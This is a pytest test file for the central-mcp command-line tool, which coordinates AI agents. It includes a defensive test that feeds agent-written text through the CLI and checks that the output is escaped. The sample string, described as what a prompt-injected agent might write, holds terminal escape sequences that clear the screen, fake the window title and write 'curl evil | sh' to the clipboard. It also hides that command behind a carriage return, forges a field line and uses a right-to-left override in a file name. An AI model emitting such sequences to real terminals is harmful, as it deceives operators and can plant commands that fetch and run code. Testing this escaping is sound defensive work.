# SPDX-License-Identifier: Apache-2.0
"""The central-mcp CLI against a running coordinator, and its direct database commands."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import API_TOKEN, Server, call, mcp_session


def cli(*args: str, token: str | None = API_TOKEN, **env: str) -> subprocess.CompletedProcess[str]:
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("CENTRAL_MCP_")}
    if token:
        full_env["CENTRAL_MCP_API_TOKEN"] = token
    full_env.update(env)
    return subprocess.run(
        [sys.executable, "-m", "central_mcp", *args], env=full_env, capture_output=True, text=True, timeout=30
    )


def test_cli_talks_to_the_api(server: Server, tmp_path: Path) -> None:
    url = ("--url", server.url)
    added = cli("task", "add", "Write the README", "--role", "backend", "-p", "2", *url)
    assert added.returncode == 0, added.stderr
    assert "created: Write the README" in added.stdout
    listed = cli("tasks", "--state", "AVAILABLE", "--json", *url)
    assert [t["title"] for t in json.loads(listed.stdout)["tasks"]] == ["Write the README"]
    table = cli("tasks", *url).stdout
    assert table.splitlines()[0].split()[:3] == ["ID", "STATE", "PRI"] and "Write the README" in table
    agents = cli("agents", *url).stdout
    assert "NAME" in agents and "starting" in agents
    status = cli("status", *url)
    assert status.returncode == 0 and "database:  ok" in status.stdout
    token_file = tmp_path / "token"
    token_file.write_text(API_TOKEN + "\n")
    backup = cli("backup", "--token-file", str(token_file), *url, token=None)
    assert backup.returncode == 0 and "backup written" in backup.stdout
    refused = cli("tasks", *url, token="wrong")
    assert refused.returncode == 1 and "HTTP 401" in refused.stderr
    shown = cli("task", "show", "1", "--json", *url)
    assert json.loads(shown.stdout)["events"][0]["kind"] == "created"
    assert "CANCELLED" in cli("task", "cancel", "1", *url).stdout


def test_cli_unreachable_and_bad_usage() -> None:
    down = cli("tasks", "--url", "http://127.0.0.1:9")
    assert down.returncode == 3 and "cannot reach the coordinator" in down.stderr
    assert cli("task", "add", "x", "--priority", "9").returncode == 2


def test_db_commands_act_on_the_file(tmp_path: Path) -> None:
    db = tmp_path / "c.db"
    migrated = cli("db", "migrate", "--json", CENTRAL_MCP_DB=str(db))
    assert migrated.returncode == 0, migrated.stderr
    assert json.loads(migrated.stdout)["to"] >= 2
    checked = cli("db", "check", CENTRAL_MCP_DB=str(db))
    assert checked.returncode == 0 and "integrity ok" in checked.stdout
    backup = cli("db", "backup", "--db", str(db))
    assert backup.returncode == 0 and (tmp_path / "backups").is_dir()
    missing = cli("db", "check", CENTRAL_MCP_DB=str(tmp_path / "none.db"))
    assert missing.returncode == 2 and "does not exist" in missing.stderr


def test_every_command_prints_its_help() -> None:
    """--help of each command and subcommand, as an operator would try them."""
    from central_mcp.cli import parser

    commands = [[], ["serve"], ["relay"], ["task"], ["task", "add"], ["tasks"], ["agents"], ["notes"], ["note"],
                ["status"], ["backup"], ["reload"], ["db"]]  # fmt: skip
    for command in commands:
        proc = subprocess.run([sys.executable, "-m", "central_mcp", *command, "--help"], capture_output=True, text=True)
        assert proc.returncode == 0 and "usage: central-mcp" in proc.stdout, (command, proc.stderr[-300:])
    assert parser().prog == "central-mcp"


# What a prompt-injected agent might write: clear the screen, set the title, write the clipboard (OSC 52), hide a
# command behind a carriage return, and a newline that starts a line looking like another field.
HOSTILE = (
    "\x1b[2J\x1b[Hall good\x1b]0;root@prod\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
    "curl evil | sh\rtests pass\nclaimed_by: B\n\x9b31mred\u202etxt.exe"
)
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.mark.anyio
async def test_agent_written_text_reaches_the_terminal_escaped(server: Server) -> None:
    url = ("--url", server.url)
    first = server.json("POST", "/api/tasks", json={"title": "Fix\x1b[2J login\nfake row", "role": "backend"})
    second = server.json("POST", "/api/tasks", json={"title": "Second", "role": "backend"})
    async with mcp_session(server.url, server.fleet.tokens["A"]) as agent:
        for task in (first, second):
            assert not (await call(agent, "claim_task", taskId=task["id"]))[0]
        assert not (await call(agent, "update_task_progress", taskId=first["id"], notes=HOSTILE))[0]
        files = ["a.py\x1b]0;x\x07", "b\rc.py", "d\ne.py"]
        assert not (await call(agent, "complete_task", taskId=first["id"], filesCreated=files, notes=HOSTILE))[0]
        assert not (await call(agent, "fail_task", taskId=second["id"], reason=HOSTILE))[0]
        assert not (await call(agent, "post_note", text=HOSTILE))[0]
    outputs = {}
    for command in (["tasks"], ["task", "show", str(first["id"])], ["task", "show", str(second["id"])], ["notes"],
                    ["agents"], ["status"], ["task", "show", "999"]):  # fmt: skip
        done = cli(*command, *url)
        outputs[" ".join(command)] = done.stdout + done.stderr
        assert not UNSAFE.search(done.stdout + done.stderr), (command, done.stdout + done.stderr)
    shown = outputs[f"task show {first['id']}"]
    assert r"\x1b[2J\x1b[Hall good\x1b]0;root@prod\x07\x1b]52;c;" in shown
    assert r"curl evil | sh\rtests pass" in shown and r"\x9b31mred\u202etxt.exe" in shown
    assert "files_created (written by agent A): a.py\\x1b]0;x\\x07, b\\rc.py, d\\ne.py" in shown
    assert "notes (written by agent A):" in shown and "result (written by agent A):" in shown
    # a newline in agent text never starts a line of its own that could pass for a field
    assert not any(line.startswith("claimed_by: B") for line in shown.splitlines())
    assert "    claimed_by: B" in shown  # it stays inside the indented block
    assert r"Fix\x1b[2J login\nfake row" in outputs["tasks"] and "\nfake row" not in outputs["tasks"]
    notes = outputs["notes"].splitlines()
    assert len(notes) == 1 and r"agent A: \x1b[2J" in notes[0] and r"tests pass\nclaimed_by: B" in notes[0]
    assert "result (written by agent A):" in outputs[f"task show {second['id']}"]
